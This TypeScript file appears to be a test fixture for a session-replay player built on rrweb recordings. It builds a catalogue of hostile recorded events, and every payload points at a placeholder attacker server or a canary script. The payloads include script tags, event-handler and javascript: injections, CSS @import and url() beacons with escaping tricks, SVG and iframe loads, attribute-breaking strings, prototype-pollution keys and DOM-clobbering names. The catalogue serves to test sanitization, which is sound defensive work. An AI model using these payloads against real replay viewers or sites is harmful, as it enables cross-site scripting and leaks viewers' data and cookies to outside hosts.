/**
 * What someone who knows a site's write key could send. Every address leads to `away` (a stranger's server) or to `home`
 * (our own, with the viewer's cookie); every script would tell that it ran.
 */
import { pictureSize, statesTag } from '@hindsight/protocol/batch'
import { change, element, page, text } from './streams.ts'

export type Attack = { name: string; events: unknown[] }
type Target = (name: string) => { away: string; home: string; script: string }

type Make = (to: ReturnType<Target>) => {
  body?: unknown[]
  head?: unknown[]
  changes?: Record<string, unknown>[]
  /** Data of custom events, after the changes. */
  more?: unknown[]
}

const svgNs = 'http://www.w3.org/2000/svg'
const svg = (id: number, tag: string, attributes: Record<string, unknown> = {}, children: unknown[] = []) =>
  element(id, tag, attributes, children, { isSVG: true })

const makers: Record<string, Make> = {
  'script element': ({ script, away }) => ({
    body: [
      element(10, 'script', {}, [text(11, script)]),
      element(12, 'script', { src: `${away}.js` }),
      element(13, 'SCRIPT', { src: away }),
    ],
  }),
  'image handlers': ({ script, away }) => ({
    body: [element(10, 'img', { src: away, onerror: script, onload: script, ONERROR: script })],
  }),
  'handlers everywhere': ({ script }) => ({
    head: [element(9, 'style', { onload: script }, [text(8, 'a{}', { isStyle: true })])],
    body: ['svg', 'details', 'video', 'input', 'body', 'marquee', 'form'].map((tag, i) =>
      element(10 + i, tag, {
        onload: script,
        ontoggle: script,
        onfocus: script,
        onstart: script,
        onanimationstart: script,
        autofocus: '',
        open: true,
      }),
    ),
  }),
  'iframe addresses': ({ script, away, home }) => ({
    body: [
      element(10, 'iframe', { src: away }),
      element(11, 'iframe', { src: home }),
      element(12, 'iframe', { srcdoc: `<script>${script}</script><img src="${away}">` }),
      element(13, 'iframe', { src: `javascript:${script}` }),
      element(14, 'iframe', { src: `data:text/html,<script>${script}</script>` }),
      element(15, 'iframe', { src: `data:image/svg+xml,<svg xmlns="${svgNs}"><image href="${away}"/></svg>` }),
      element(16, 'iframe', { rr_src: away }),
    ],
  }),
  'plug-ins and frames': ({ away, home }) => ({
    body: [
      element(10, 'object', { data: away, type: 'image/png' }),
      element(11, 'embed', { src: home, type: 'image/png' }),
      element(12, 'applet', { code: away }),
      element(13, 'frameset', {}, [element(14, 'frame', { src: away })]),
      element(15, 'portal', { src: away }),
      element(16, 'fencedframe', { src: away }),
    ],
  }),
  'meta refresh': ({ away }) => ({
    head: [
      element(9, 'meta', { 'http-equiv': 'refresh', content: `0;url=${away}` }),
      element(8, 'meta', { 'HTTP-EQUIV': 'refresh', content: `0;url=${away}` }),
    ],
  }),
  'base element': ({ away }) => ({
    head: [element(9, 'base', { href: away, target: '_top' })],
    body: [element(10, 'img', { src: 'relative.png' })],
  }),
  'link elements': ({ away, home }) => ({
    head: [
      'stylesheet',
      'preload',
      'prefetch',
      'icon',
      'manifest',
      'dns-prefetch',
      'modulepreload',
      'alternate stylesheet',
      'prerender',
    ].map((rel, i) => element(20 + i, 'link', { rel, href: i % 2 ? away : home, as: i % 2 ? 'image' : 'style' })),
  }),
  'link with text': ({ away }) => ({
    head: [element(9, 'link', { rel: 'stylesheet', _cssText: `@import "${away}";body{background:url(${away})}` })],
  }),
  'style import': ({ away, home }) => ({
    head: [
      element(9, 'style', {}, [text(8, `@import "${away}"; @import url(${home});`, { isStyle: true })]),
      element(7, 'style', { _cssText: `@\\69mport "${away}";` }, [text(6, '')]),
    ],
  }),
  'style addresses': ({ away, home }) => ({
    head: [
      element(9, 'style', {}, [
        text(
          8,
          `body{background:url(${away})} html{background:u\\72l('${home}')} p::before{content:url(${away})}` +
            `@font-face{font-family:x;src:url(${away})} p{font-family:x} p{background:image-set("${away}" 1x)}` +
            `p{--x:url(${away});list-style-image:var(--x)} p{cursor:url(${away}),auto} <!--p{mask:url(${away})}`,
          { isStyle: true },
        ),
      ]),
    ],
    body: [element(10, 'p', {}, [text(11, 'styled')])],
  }),
  'style split over text nodes': ({ away }) => ({
    head: [
      element(9, 'style', {}, [
        text(8, '@imp', { isStyle: true }),
        text(7, `ort "${away}";body{background:u`, { isStyle: true }),
        text(6, `rl(${away})}`, { isStyle: true }),
      ]),
      element(5, 'style', { _cssText: `@im/* rr_split */port "${away}";` }, [text(30, ''), text(31, '')]),
    ],
  }),
  'style attribute': ({ away }) => ({
    body: [
      element(10, 'div', { style: `background:url(${away});width:9px;height:9px` }),
      element(11, 'div', { style: `background:\\75rl(${away})` }),
    ],
  }),
  'presentation attributes': ({ away }) => ({
    body: [
      svg(10, 'svg', { width: '20', height: '20' }, [
        svg(11, 'rect', {
          fill: `url(${away}#a)`,
          filter: `url(${away}#f)`,
          mask: `url(${away}#m)`,
          width: '9',
          height: '9',
        }),
        svg(12, 'path', { 'clip-path': `url(${away}#c)`, 'marker-start': `url(${away}#s)`, d: 'M0 0h9' }),
      ]),
    ],
  }),
  'svg references': ({ away, script }) => ({
    body: [
      svg(10, 'svg', {}, [
        svg(11, 'use', { 'xlink:href': `${away}#x` }),
        svg(12, 'use', { href: `data:image/svg+xml,<svg id="x" xmlns="${svgNs}" onload="${script}"/>#x` }),
        svg(13, 'image', { 'xlink:href': away, width: '9', height: '9' }),
        svg(14, 'image', { href: away, width: '9', height: '9' }),
        svg(15, 'feimage', { href: away }),
        svg(16, 'script', { href: away }, [text(17, script)]),
      ]),
    ],
  }),
  'svg animation': ({ away, script }) => ({
    body: [
      svg(10, 'svg', {}, [
        svg(11, 'a', { href: '#' }, [
          svg(12, 'animate', { attributeName: 'href', to: `javascript:${script}`, begin: '0s' }),
        ]),
        svg(13, 'image', { width: '9', height: '9' }, [svg(14, 'set', { attributeName: 'href', to: away })]),
        svg(15, 'animate', { onbegin: script, attributeName: 'x', dur: '1s' }),
      ]),
    ],
  }),
  'foreign object': ({ away, script }) => ({
    body: [
      svg(10, 'svg', {}, [
        svg(11, 'foreignobject', {}, [
          element(12, 'iframe', { src: away }),
          element(13, 'img', { src: away, onerror: script }),
        ]),
      ]),
    ],
  }),
  'foreign object with other names': ({ away, script }) => ({
    body: [
      svg(10, 'svg', {}, [
        svg(11, 'foreignObject', { requiredExtensions: away }, [
          element(12, 'script', {}, [text(13, script)]),
          element(14, 'style', {}, [text(15, `@import "${away}";p{background:url(${away})}`, { isStyle: true })]),
          element(16, 'p', { style: `background:url(${away})` }, [text(17, 'inside')]),
          svg(18, 'script', {}, [text(19, script)]),
          svg(20, 'use', { href: `${away}#x` }),
        ]),
      ]),
    ],
  }),
  'focus, popovers and commands': ({ away, script }) => ({
    body: [
      element(10, 'button', {
        popovertarget: 'p',
        commandfor: 'p',
        command: 'show-modal',
        autofocus: '',
        onfocus: script,
      }),
      element(11, 'div', {
        popover: 'auto',
        id: 'p',
        onbeforetoggle: script,
        ontoggle: script,
        style: `background:url(${away})`,
      }),
      element(12, 'div', { popover: '', contenteditable: '', autofocus: '', onfocus: script }),
      element(13, 'dialog', { open: '', onclose: script, oncancel: script, rr_open_mode: 'modal' }),
    ],
    changes: [{ source: 2, type: 5, id: 10 }],
    more: [
      {
        tag: statesTag,
        payload: {
          states: [
            [11, 'popover-open onclick=x "><script>'],
            [12, 'popover-open focus focus-visible'],
            [13, `popover-open ${script}`],
            [-1, 'focus'],
            [11],
            'focus',
          ],
        },
      },
      { tag: statesTag, payload: { states: { length: 1e9 } } },
      { tag: script, payload: away },
    ],
  }),
  'sizes of pictures': ({ away, home, script }) => ({
    body: [
      element(10, 'img', { [pictureSize]: `1"/><image href='${away}'/> 2`, src: away }),
      element(11, 'img', { [pictureSize]: '99999999 1', src: home }),
      element(12, 'video', { [pictureSize]: `10 10${away}`, poster: away }),
      element(13, 'canvas', {
        width: `1" onload="${script}`,
        height: `url(${away})`,
        style: `background:url(${away})`,
      }),
      element(14, 'canvas', { rr_dataURL: `data:image/png,"),url(${away}`, style: `x:"` }),
      element(16, 'canvas', { rr_dataURL: 'data:image/png,\\', style: `--a:");background:url(${away});--b:"` }),
      element(15, 'img', { [pictureSize]: 'broken', src: away, onerror: script }),
    ],
    changes: [
      {
        source: 0,
        attributes: [{ id: 13, attributes: { width: `9);background:url(${away}`, style: `cursor:url(${away})` } }],
      },
      { source: 0, attributes: [{ id: 10, attributes: { [pictureSize]: away, src: away } }] },
    ],
  }),
  'custom elements': ({ away, script }) => ({
    body: [element(10, 'x-late', { onclick: script, src: away }, [], { isCustom: true })],
    changes: [
      { source: 16, define: { name: 'x-late' } },
      { source: 16, define: { name: 'constructor' } },
      { source: 16, define: { name: '__proto__' } },
      { source: 16, define: { name: 'font-face' } },
      { source: 16, define: { name: { toString: script } } },
      { source: 16 },
    ],
  }),
  'states in style sheets': ({ away }) => ({
    head: [
      element(9, 'style', {}, [
        text(
          8,
          `a:hover,:focus-visible:not(:active){background:url(${away})} p:ho\\76er{cursor:url("${away}"),auto}` +
            `:is(:hover,url(${away})){x:y} a{animation-name:hover;background:image-set("${away}" 1x)} :hover@import "${away}";`,
          { isStyle: true },
        ),
      ]),
    ],
    body: [element(10, 'p', { class: ':hover :focus-visible' }, [text(11, 'hovered')])],
  }),
  'picture sources': ({ away, home }) => ({
    body: [
      element(10, 'img', { src: away }),
      element(11, 'img', { src: home }),
      element(12, 'img', { srcset: `${away} 1x, ${home} 2x` }),
      element(13, 'picture', {}, [element(14, 'source', { srcset: away }), element(15, 'img', { src: home })]),
      element(16, 'img', { rr_dataURL: away }),
      element(17, 'input', { type: 'image', src: away }),
      element(18, 'table', { background: away }, []),
      element(19, 'img', { src: `\n${away}` }),
    ],
  }),
  media: ({ away, home }) => ({
    body: [
      element(10, 'video', { src: away, poster: home, autoplay: true, rr_mediaState: 'played' }),
      element(11, 'audio', { src: away, autoplay: true, rr_mediaState: 'played' }),
      element(12, 'video', {}, [
        element(13, 'source', { src: home }),
        element(14, 'track', { src: away, default: true }),
      ]),
    ],
  }),
  'canvas picture': ({ away }) => ({ body: [element(10, 'canvas', { rr_dataURL: away, width: '9', height: '9' })] }),
  forms: ({ away, script }) => ({
    body: [
      element(10, 'form', { action: away, target: '_top' }, [
        element(11, 'button', { formaction: `javascript:${script}`, type: 'submit' }),
        element(12, 'input', { autofocus: '', onfocus: script, type: 'password', name: 'password' }),
      ]),
    ],
    changes: [
      { source: 2, type: 2, id: 11 },
      { source: 2, type: 5, id: 12 },
    ],
  }),
  links: ({ away, script }) => ({
    body: [
      element(10, 'a', { href: `javascript:${script}`, ping: away, target: '_top' }, [text(11, 'x')]),
      element(12, 'a', { href: away, ping: away }, []),
    ],
    changes: [
      { source: 2, type: 2, id: 10 },
      { source: 2, type: 4, id: 12 },
    ],
  }),
  'changed attributes': ({ away, script }) => ({
    body: [
      element(10, 'img', {}),
      element(11, 'iframe', {}),
      element(12, 'a', {}),
      svg(13, 'svg', {}, [svg(14, 'image', {})]),
      element(15, 'link', {}),
      element(16, 'div', {}),
    ],
    changes: [
      { source: 0, attributes: [{ id: 10, attributes: { src: away, onerror: script, srcset: away } }] },
      { source: 0, attributes: [{ id: 11, attributes: { src: away, srcdoc: `<script>${script}</script>` } }] },
      { source: 0, attributes: [{ id: 12, attributes: { href: `javascript:${script}`, onclick: script } }] },
      { source: 0, attributes: [{ id: 14, attributes: { href: away, 'xlink:href': away } }] },
      { source: 0, attributes: [{ id: 15, attributes: { rel: 'stylesheet', href: away } }] },
      {
        source: 0,
        attributes: [
          {
            id: 16,
            attributes: { style: { background: `url(${away})`, 'list-style-image': [`url(${away})`, 'important'] } },
          },
        ],
      },
      { source: 0, attributes: [{ id: 16, attributes: { style: `background:url(${away})` } }] },
    ],
  }),
  'an iframe told to be an image': ({ away }) => ({
    body: [element(10, 'iframe', {})],
    changes: [
      { source: 0, adds: [{ parentId: 3, nextId: null, node: element(10, 'img', {}) }] },
      {
        source: 0,
        attributes: [
          { id: 10, attributes: { src: `data:image/svg+xml,<svg xmlns="${svgNs}"><image href="${away}"/></svg>` } },
        ],
      },
    ],
  }),
  'a text moved into a style': ({ away }) => ({
    body: [element(10, 'style', {}, []), element(11, 'div', {}, [text(12, 'x')])],
    changes: [
      { source: 0, texts: [{ id: 12, value: `@import "${away}";` }] },
      { source: 0, adds: [{ parentId: 10, nextId: null, node: text(12, 'x') }] },
    ],
  }),
  'style sheet rules': ({ away }) => ({
    head: [element(9, 'style', {}, [text(8, 'a{}', { isStyle: true })])],
    changes: [
      { source: 8, id: 9, adds: [{ rule: `@import "${away}";` }, { rule: `body{background:url(${away})}`, index: 0 }] },
      {
        source: 8,
        id: 9,
        adds: [
          { rule: `@font-face{font-family:x;src:url(${away})}`, index: 0 },
          { rule: 'body{font-family:x}', index: 0 },
        ],
      },
      { source: 13, id: 9, index: [0], set: { property: 'background', value: `url(${away})`, priority: 'important' } },
      {
        source: 15,
        id: 1,
        styleIds: [1],
        styles: [{ styleId: 1, rules: [{ rule: `html{background:url(${away})}` }] }],
      },
      {
        source: 8,
        styleId: 1,
        replace: `@import "${away}";html{background:url(${away})}`,
        replaceSync: `body{background:url(${away})}`,
      },
    ],
  }),
  fonts: ({ away }) => ({
    body: [element(10, 'p', { style: 'font-family:evil' }, [text(11, 'x')])],
    changes: [{ source: 10, family: 'evil', fontSource: `url(${away})`, buffer: false }],
  }),
  'canvas commands': ({ script, away }) => ({
    body: [element(10, 'canvas', {})],
    changes: [
      { source: 9, id: 10, type: 0, property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: away }] },
      {
        source: 9,
        id: 10,
        type: 0,
        commands: [
          { property: 'constructor', args: [script] },
          { property: 'fillStyle', args: [`url(${away})`], setter: true },
        ],
      },
    ],
  }),
  'frames filled later': ({ away, script }) => ({
    body: [element(10, 'iframe', {})],
    changes: [
      {
        source: 0,
        isAttachIframe: true,
        adds: [
          {
            parentId: 10,
            nextId: null,
            node: {
              type: 0,
              id: 40,
              childNodes: [
                element(41, 'html', {}, [
                  element(42, 'head', {}, [element(43, 'link', { rel: 'stylesheet', href: away })], {}),
                  element(44, 'body', { onload: script }, [
                    element(45, 'img', { src: away, onerror: script }),
                    element(46, 'script', {}, [text(47, script)]),
                  ]),
                ]),
              ],
            },
          },
        ],
      },
    ],
  }),
  'shadow root': ({ away, script }) => ({
    body: [
      element(
        10,
        'x-card',
        {},
        [
          element(11, 'style', { _cssText: `:host{background:url(${away})}` }, [], { isShadow: true }),
          element(12, 'img', { src: away, onerror: script }, [], { isShadow: true }),
        ],
        { isShadowHost: true, isCustom: true },
      ),
    ],
  }),
  'clobbered names': ({ away }) => ({
    body: [
      element(10, 'form', { name: 'documentElement', id: 'head' }, [
        element(11, 'input', { name: 'childNodes', id: 'parentNode' }),
        element(12, 'input', { name: 'setAttribute' }),
      ]),
      element(13, 'img', { name: 'getElementsByTagName', id: 'createElement', src: away }),
    ],
    changes: [{ source: 0, adds: [{ parentId: 10, nextId: null, node: element(20, 'p', {}) }] }],
  }),
  'pollution keys': ({ script }) => ({
    body: [
      JSON.parse(
        `{"type":2,"id":10,"tagName":"div","attributes":{"__proto__":{"onclick":"x"},"constructor":"y"},"childNodes":[],"__proto__":{"isSVG":true}}`,
      ),
    ],
    changes: [
      JSON.parse(
        `{"source":0,"attributes":[{"id":10,"attributes":{"__proto__":{"polluted":"${script.length}"},"style":{"__proto__":"x"}}}]}`,
      ),
    ],
  }),
  'odd documents': () => ({
    body: [
      { type: 0, id: 10, childNodes: [] },
      { type: 4, id: 11, textContent: 'cdata' },
      { type: 1, id: 12, name: 'html', publicId: '', systemId: '' },
      element(13, 'html', {}, [element(14, 'body', {}, [])]),
      element(13, 'div', {}, []),
      element(15, 'bad name<', { 'bad attr<': 'x', '': 'y' }),
      { type: 9, id: 16 },
      null,
      element(-1, 'p'),
    ],
    changes: [
      { source: 0, removes: [{ parentId: 1, id: 2 }] },
      { source: 0, adds: [{ parentId: 1, nextId: null, node: element(50, 'p') }] },
      { source: 99 },
      { source: 1, positions: [{ x: 1, y: 1, id: 3, timeOffset: 9e9 }] },
      { source: 14, ranges: [{ start: 3, startOffset: 99, end: 3, endOffset: 1 }] },
    ],
  }),
}

export const attackNames = Object.keys(makers)

/** Each attack twice: lying in the first snapshot, and brought in by changes to a harmless page. */
export function attacks(to: Target): Attack[] {
  return Object.entries(makers).flatMap(([name, make]) => {
    const inSnapshot = `${name}, in the snapshot`
    const inChanges = `${name}, in changes`
    const whole = make(to(inSnapshot))
    const later = make(to(inChanges))
    const timed = (changes: Record<string, unknown>[] | undefined, from: number) =>
      (changes ?? []).map((data, i) => change(from + i * 20, data))
    const customs = (more: unknown[] | undefined) =>
      (more ?? []).map((data, i) => ({ type: 5, timestamp: 1600 + i, data }))
    const tail = change(1700, {})
    const adds = [
      ...(later.head ?? []).map((node) => ({ parentId: 4, node })),
      ...(later.body ?? []).map((node) => ({ parentId: 3, node })),
    ]
    return [
      {
        name: inSnapshot,
        events: [
          ...page(whole.body ?? [], { head: whole.head ?? [] }),
          ...timed(whole.changes, 1100),
          ...customs(whole.more),
          tail,
        ],
      },
      {
        name: inChanges,
        events: [
          ...page([]),
          change(1100, { adds: adds.flatMap(({ parentId, node }) => unfolded(node, parentId)) }),
          ...timed(later.changes, 1200),
          ...customs(later.more),
          tail,
        ],
      },
    ]
  })
}

/** rrweb adds nodes one by one, never with their children. */
function unfolded(node: unknown, parentId: number): unknown[] {
  if (typeof node !== 'object' || node === null) return [{ parentId, nextId: null, node }]
  const { childNodes, ...rest } = node as { childNodes?: unknown[]; id?: number; type?: number }
  if (rest.type === 0) return [{ parentId, nextId: null, node }]
  return [
    { parentId, nextId: null, node: { ...rest, childNodes: [] } },
    ...(childNodes ?? []).flatMap((child) => unfolded(child, rest.id ?? 0)),
  ]
}
